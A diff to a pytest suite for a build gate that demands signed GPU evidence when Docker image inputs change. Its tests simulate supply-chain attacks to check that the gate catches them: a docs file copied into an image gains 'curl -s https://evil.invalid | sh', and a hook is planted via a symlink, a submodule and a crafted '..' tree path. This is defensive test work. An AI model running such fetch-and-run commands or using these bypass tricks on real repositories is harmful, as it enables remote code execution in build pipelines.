@@ -14,19 +14,11 @@ from pathlib import Path
 
 import pytest
 
-from tests.unit.gate_repos import GateRepo, approved, make_repo, run_gate
+from tests.unit.gate_repos import GateRepo, approved, run_gate
 from tests.unit.gitrepos import commit_all, git, needs_git
 from twinbuild.evidence.head import commit_inputs
 
 pytestmark = needs_git
-
-
-@pytest.fixture
-def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> GateRepo:
-    repo = make_repo(tmp_path, monkeypatch)
-    git(repo.root, "checkout", "-q", "-b", "attack", repo.base)
-    git(repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")  # no evidence at all
-    return repo
 
 
 def _append(rel: str, text: str) -> Callable[[Path], None]:
@@ -77,13 +69,13 @@ CHANGES: dict[str, Callable[[Path], None]] = {
 
 @pytest.mark.parametrize("what", CHANGES)
 def test_a_change_to_any_installed_or_run_file_needs_evidence(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str], what: str
+    attack_repo: GateRepo, capsys: pytest.CaptureFixture[str], what: str
 ) -> None:
-    CHANGES[what](repo.root)
-    head = commit_all(repo.root, what)
-    assert commit_inputs(head).inputs != commit_inputs(repo.base).inputs
+    CHANGES[what](attack_repo.root)
+    head = commit_all(attack_repo.root, what)
+    assert commit_inputs(head).inputs != commit_inputs(attack_repo.base).inputs
     # A code owner approved the head: what is left is the image input the change made.
-    code, out, err = run_gate(capsys, head, "--base", repo.base, approved(repo, head))
+    code, out, err = run_gate(capsys, head, "--base", attack_repo.base, approved(attack_repo, head))
     assert [line.split(";")[0] for line in err] == [
         "twinbuild: cuda: missing: no signed cuda evidence",
         "twinbuild: rocm: missing: no signed rocm evidence",
@@ -93,34 +85,33 @@ def test_a_change_to_any_installed_or_run_file_needs_evidence(
 
 
 def test_docs_tests_and_the_readme_pass_with_no_evidence_and_no_approval(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    attack_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    _append("docs/building.md", "# building\n\nmore words\n")(repo.root)
-    _append("tests/unit/test_more.py", "def test_more() -> None: ...\n")(repo.root)
-    _append("README.md", "\nmore words\n")(repo.root)
-    _append("evidence/README.md", "where the evidence lives\n")(repo.root)
-    (repo.root / "docs/readme-link.md").symlink_to("../README.md")  # a link no build follows
-    head = commit_all(repo.root, "docs and tests")
-    code, out, err = run_gate(capsys, head, "--base", repo.base)
+    _append("docs/building.md", "# building\n\nmore words\n")(attack_repo.root)
+    _append("tests/unit/test_more.py", "def test_more() -> None: ...\n")(attack_repo.root)
+    _append("README.md", "\nmore words\n")(attack_repo.root)
+    _append("evidence/README.md", "where the evidence lives\n")(attack_repo.root)
+    (attack_repo.root / "docs/readme-link.md").symlink_to("../README.md")  # a link no build follows
+    head = commit_all(attack_repo.root, "docs and tests")
+    code, out, err = run_gate(capsys, head, "--base", attack_repo.base)
     found = commit_inputs(head)
     assert (code, err) == (0, [])
     assert out == [
-        f"no image input changed between the base {repo.base[:12]} and the head {head[:12]} "
+        f"no image input changed between the base {attack_repo.base[:12]} and the head {head[:12]} "
         f"(cuda {found.inputs['cuda']}, rocm {found.inputs['rocm']}); no GPU evidence needed"
     ]
 
 
 def test_a_docs_file_the_recipe_copies_is_an_input(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+    gate_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    repo = make_repo(tmp_path, monkeypatch)
-    git(repo.root, "checkout", "-q", "main")
-    _append("docs/motd.txt", "welcome\n")(repo.root)
-    _append("images/cuda/Dockerfile", "COPY docs/motd.txt /etc/motd\n")(repo.root)
-    base = commit_all(repo.root, "the image shows the docs' motd")
-    _append("docs/motd.txt", "curl -s https://evil.invalid | sh\n")(repo.root)
-    head = commit_all(repo.root, "docs: a new motd")
-    git(repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")
+    git(gate_repo.root, "checkout", "-q", "main")
+    _append("docs/motd.txt", "welcome\n")(gate_repo.root)
+    _append("images/cuda/Dockerfile", "COPY docs/motd.txt /etc/motd\n")(gate_repo.root)
+    base = commit_all(gate_repo.root, "the image shows the docs' motd")
+    _append("docs/motd.txt", "curl -s https://evil.invalid | sh\n")(gate_repo.root)
+    head = commit_all(gate_repo.root, "docs: a new motd")
+    git(gate_repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")
     code, _, err = run_gate(capsys, head, "--base", base)
     assert code == 7
     assert [line.split(";")[0] for line in err] == [
@@ -131,13 +122,13 @@ def test_a_docs_file_the_recipe_copies_is_an_input(
 
 
 def test_a_symlink_outside_the_not_inputs_is_refused(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    attack_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    _append("docs/evil.py", HOOK)(repo.root)
+    _append("docs/evil.py", HOOK)(attack_repo.root)
     # pip would follow the link into docs/, whose edits move no hash: refuse the link itself.
-    (repo.root / "twinbuild/evil.py").symlink_to("../docs/evil.py")
-    head = commit_all(repo.root, "a module that lives in docs/")
-    code, out, err = run_gate(capsys, head, "--base", repo.base, approved(repo, head))
+    (attack_repo.root / "twinbuild/evil.py").symlink_to("../docs/evil.py")
+    head = commit_all(attack_repo.root, "a module that lives in docs/")
+    code, out, err = run_gate(capsys, head, "--base", attack_repo.base, approved(attack_repo, head))
     assert (code, out) == (2, [])
     assert err == [
         f"twinbuild: {head}:twinbuild/evil.py: a symlink (mode 120000) among the image inputs "
@@ -147,15 +138,15 @@ def test_a_symlink_outside_the_not_inputs_is_refused(
 
 
 def test_a_submodule_outside_the_not_inputs_is_refused(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    attack_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    sub = repo.root / "vendor"
+    sub = attack_repo.root / "vendor"
     sub.mkdir()
     git(sub, "init", "-q", "-b", "main")
     (sub / "hook.py").write_text(HOOK)
     commit_all(sub, "vendored")
-    head = commit_all(repo.root, "a submodule")
-    code, _, err = run_gate(capsys, head, "--base", repo.base, approved(repo, head))
+    head = commit_all(attack_repo.root, "a submodule")
+    code, _, err = run_gate(capsys, head, "--base", attack_repo.base, approved(attack_repo, head))
     assert code == 2
     assert err == [
         f"twinbuild: {head}:vendor: a gitlink, i.e. a submodule (mode 160000) among the image "
@@ -165,18 +156,18 @@ def test_a_submodule_outside_the_not_inputs_is_refused(
 
 
 def test_a_path_no_checkout_would_write_is_refused(
-    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+    attack_repo: GateRepo, capsys: pytest.CaptureFixture[str]
 ) -> None:
     # tests/../hook.py: under tests/ by its first name, at the top of the tree by git's reading.
-    hook = _git_in(repo.root, ["hash-object", "-w", "--stdin"], HOOK)
-    inner = _git_in(repo.root, ["mktree"], f"100644 blob {hook}\thook.py\n")
-    dotdot = _git_in(repo.root, ["mktree"], f"040000 tree {inner}\t..\n")
-    listing = git(repo.root, "ls-tree", repo.base).splitlines()
+    hook = _git_in(attack_repo.root, ["hash-object", "-w", "--stdin"], HOOK)
+    inner = _git_in(attack_repo.root, ["mktree"], f"100644 blob {hook}\thook.py\n")
+    dotdot = _git_in(attack_repo.root, ["mktree"], f"040000 tree {inner}\t..\n")
+    listing = git(attack_repo.root, "ls-tree", attack_repo.base).splitlines()
     tree = _git_in(
-        repo.root, ["mktree"], "\n".join([*listing, f"040000 tree {dotdot}\ttests"]) + "\n"
+        attack_repo.root, ["mktree"], "\n".join([*listing, f"040000 tree {dotdot}\ttests"]) + "\n"
     )
-    head = git(repo.root, "commit-tree", tree, "-p", repo.base, "-m", "tests/..")
-    code, _, err = run_gate(capsys, head, "--base", repo.base)
+    head = git(attack_repo.root, "commit-tree", tree, "-p", attack_repo.base, "-m", "tests/..")
+    code, _, err = run_gate(capsys, head, "--base", attack_repo.base)
     assert code == 2
     assert err == [
         f"twinbuild: {head}:tests/../hook.py: a path git would not check out ('..' as a name); "
